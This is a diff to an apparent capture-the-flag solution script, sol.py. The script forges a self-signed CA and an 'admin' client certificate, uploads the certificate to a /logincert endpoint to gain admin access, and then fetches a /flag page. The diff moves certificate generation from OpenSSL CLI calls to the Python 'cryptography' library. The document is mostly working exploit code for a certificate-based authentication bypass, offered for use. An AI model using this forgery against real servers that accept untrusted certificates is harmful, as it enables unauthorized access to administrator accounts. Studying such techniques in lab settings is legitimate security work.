@@ -14,144 +14,111 @@ Usage examples:
   - Custom output dir:    python sol.py -o exploit_out
 
 Notes:
-  - Requires OpenSSL CLI available in PATH.
-  - On Windows, we use a local openssl.cnf to avoid missing-config issues.
+  - Requires the 'cryptography' package (keys/certs are built in-process, no OpenSSL CLI).
   - If targeting a remote server, pass --url. If the server trusts a different CA,
     this will only work if the trusted store accepts our generated CA.
 """
 
 import argparse
-import os
-import subprocess
 import sys
+from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
 
-def run(cmd, cwd=None, env=None):
-    proc = subprocess.run(
-        cmd,
-        cwd=cwd,
-        env=env,
-        stdout=subprocess.PIPE,
-        stderr=subprocess.STDOUT,
-        text=True,
-        shell=False,
-    )
-    if proc.returncode != 0:
-        raise RuntimeError(f"Command failed ({proc.returncode}): {' '.join(cmd)}\nOutput:\n{proc.stdout}")
-    return proc.stdout
-
-
-def check_openssl():
+def generate_chain(out_dir: Path, cn_admin: str = "admin", cn_ca: str = "ca", overwrite: bool = False):
     try:
-        out = run(["openssl", "version"])  # raises if not found
-        return out.strip()
-    except Exception as e:
-        raise SystemExit(f"OpenSSL not available: {e}")
-
-
-def write_openssl_cnf(path: Path):
-    cfg = (
-        """
-[ req ]
-default_bits       = 2048
-default_md         = sha256
-prompt             = no
-distinguished_name = req_dn
-req_extensions     = v3_req
-x509_extensions    = v3_ca
-
-[ req_dn ]
-C  = US
-ST = CA
-L  = SF
-O  = Example
-CN = default
-
-[ v3_req ]
-basicConstraints = CA:false
-keyUsage = nonRepudiation, digitalSignature, keyEncipherment
-subjectKeyIdentifier = hash
-
-[ v3_ca ]
-subjectKeyIdentifier=hash
-authorityKeyIdentifier=keyid:always,issuer
-basicConstraints=critical, CA:true
-keyUsage=critical, digitalSignature, keyCertSign, cRLSign
-"""
-    ).strip()
-    path.write_text(cfg, encoding="ascii")
-
+        from cryptography import x509
+        from cryptography.hazmat.primitives import hashes, serialization
+        from cryptography.hazmat.primitives.asymmetric import rsa
+        from cryptography.x509.oid import NameOID
+    except ImportError:
+        raise SystemExit("The 'cryptography' package is required. Install with: pip install cryptography")
 
-def generate_chain(out_dir: Path, cn_admin: str = "admin", cn_ca: str = "ca", overwrite: bool = False):
     out_dir.mkdir(parents=True, exist_ok=True)
 
     ca_key = out_dir / "ca.key"
     ca_crt = out_dir / "ca.crt"
     admin_key = out_dir / "admin.key"
-    admin_csr = out_dir / "admin.csr"
     admin_crt = out_dir / "admin.crt"
     admin_pem = out_dir / "admin.pem"
-    cnf = out_dir / "openssl.cnf"
-
-    if not overwrite and all(p.exists() for p in [ca_key, ca_crt, admin_key, admin_csr, admin_crt, admin_pem]):
-        return {
-            "ca_key": ca_key,
-            "ca_crt": ca_crt,
-            "admin_key": admin_key,
-            "admin_csr": admin_csr,
-            "admin_crt": admin_crt,
-            "admin_pem": admin_pem,
-        }
-
-    # Prepare openssl.cnf
-    write_openssl_cnf(cnf)
-
-    # Env with our local config; also pass -config explicitly on commands
-    env = os.environ.copy()
-    env.setdefault("OPENSSL_CONF", str(cnf))
-
-    # Generate CA key
-    run(["openssl", "genrsa", "-out", str(ca_key), "2048"], env=env)
-
-    # Self-signed CA cert with CN=ca
-    run([
-        "openssl", "req", "-new", "-x509", "-days", "1826",
-        "-key", str(ca_key), "-out", str(ca_crt),
-        "-subj", f"/CN={cn_ca}",
-        "-config", str(cnf), "-extensions", "v3_ca",
-    ], env=env)
-
-    # Generate admin key
-    run(["openssl", "genrsa", "-out", str(admin_key), "2048"], env=env)
-
-    # Admin CSR with CN=admin
-    run([
-        "openssl", "req", "-new",
-        "-key", str(admin_key), "-out", str(admin_csr),
-        "-subj", f"/CN={cn_admin}",
-        "-config", str(cnf),
-    ], env=env)
-
-    # Sign admin cert by our CA
-    run([
-        "openssl", "x509", "-req", "-days", "730",
-        "-in", str(admin_csr), "-CA", str(ca_crt), "-CAkey", str(ca_key),
-        "-set_serial", "01", "-out", str(admin_crt),
-        "-extfile", str(cnf), "-extensions", "v3_req",
-    ], env=env)
-
-    # Convert admin cert to PEM (same content, ensures PEM encoding)
-    run(["openssl", "x509", "-in", str(admin_crt), "-out", str(admin_pem), "-outform", "PEM"], env=env)
-
-    return {
+
+    artifacts = {
         "ca_key": ca_key,
         "ca_crt": ca_crt,
         "admin_key": admin_key,
-        "admin_csr": admin_csr,
         "admin_crt": admin_crt,
         "admin_pem": admin_pem,
     }
+    if not overwrite and all(p.exists() for p in artifacts.values()):
+        return artifacts
+
+    now = datetime.now(timezone.utc)
+
+    def key_pem(key):
+        return key.private_bytes(
+            serialization.Encoding.PEM,
+            serialization.PrivateFormat.PKCS8,
+            serialization.NoEncryption(),
+        )
+
+    # CA key + self-signed CA cert with CN=ca (same extensions as the old v3_ca section)
+    ca_priv = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn_ca)])
+    ca_ski = x509.SubjectKeyIdentifier.from_public_key(ca_priv.public_key())
+    ca_cert = (
+        x509.CertificateBuilder()
+        .subject_name(ca_name)
+        .issuer_name(ca_name)
+        .public_key(ca_priv.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now)
+        .not_valid_after(now + timedelta(days=1826))
+        .add_extension(ca_ski, critical=False)
+        .add_extension(x509.AuthorityKeyIdentifier.from_issuer_subject_key_identifier(ca_ski), critical=False)
+        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
+        .add_extension(
+            x509.KeyUsage(
+                digital_signature=True, content_commitment=False, key_encipherment=False,
+                data_encipherment=False, key_agreement=False, key_cert_sign=True,
+                crl_sign=True, encipher_only=False, decipher_only=False,
+            ),
+            critical=True,
+        )
+        .sign(ca_priv, hashes.SHA256())
+    )
+
+    # Admin key + cert with CN=admin, signed by our CA (old v3_req section)
+    admin_priv = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    admin_cert = (
+        x509.CertificateBuilder()
+        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn_admin)]))
+        .issuer_name(ca_name)
+        .public_key(admin_priv.public_key())
+        .serial_number(1)
+        .not_valid_before(now)
+        .not_valid_after(now + timedelta(days=730))
+        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=False)
+        .add_extension(
+            x509.KeyUsage(
+                digital_signature=True, content_commitment=True, key_encipherment=True,
+                data_encipherment=False, key_agreement=False, key_cert_sign=False,
+                crl_sign=False, encipher_only=False, decipher_only=False,
+            ),
+            critical=False,
+        )
+        .add_extension(x509.SubjectKeyIdentifier.from_public_key(admin_priv.public_key()), critical=False)
+        .sign(ca_priv, hashes.SHA256())
+    )
+
+    admin_cert_pem = admin_cert.public_bytes(serialization.Encoding.PEM)
+    ca_key.write_bytes(key_pem(ca_priv))
+    ca_crt.write_bytes(ca_cert.public_bytes(serialization.Encoding.PEM))
+    admin_key.write_bytes(key_pem(admin_priv))
+    admin_crt.write_bytes(admin_cert_pem)
+    # admin.pem is what /logincert accepts (extension must be .pem)
+    admin_pem.write_bytes(admin_cert_pem)
+
+    return artifacts
 
 
 def try_attack(base_url: str, admin_pem: Path):
@@ -168,8 +135,9 @@ def try_attack(base_url: str, admin_pem: Path):
     except Exception:
         pass
 
-    files = {"file": (admin_pem.name, admin_pem.open("rb"), "application/x-pem-file")}
-    r = sess.post(base_url.rstrip("/") + "/logincert", files=files, timeout=20, allow_redirects=True)
+    with admin_pem.open("rb") as fh:
+        files = {"file": (admin_pem.name, fh, "application/x-pem-file")}
+        r = sess.post(base_url.rstrip("/") + "/logincert", files=files, timeout=20, allow_redirects=True)
     # After successful login, fetch the flag page
     r2 = sess.get(base_url.rstrip("/") + "/flag", timeout=20)
     # Print raw HTML (the flag is rendered in the page)
@@ -185,13 +153,11 @@ def main():
     parser.add_argument("--cn-ca", default="ca", help="CA certificate Common Name")
     args = parser.parse_args()
 
-    print(check_openssl())
-
     out_dir = Path(args.out_dir).resolve()
     artifacts = generate_chain(out_dir, cn_admin=args.cn_admin, cn_ca=args.cn_ca, overwrite=args.overwrite)
 
     print("Generated files:")
-    for k in ["ca_key", "ca_crt", "admin_key", "admin_csr", "admin_crt", "admin_pem"]:
+    for k in ["ca_key", "ca_crt", "admin_key", "admin_crt", "admin_pem"]:
         print(f"- {k}: {artifacts[k]}")
 
     if args.url: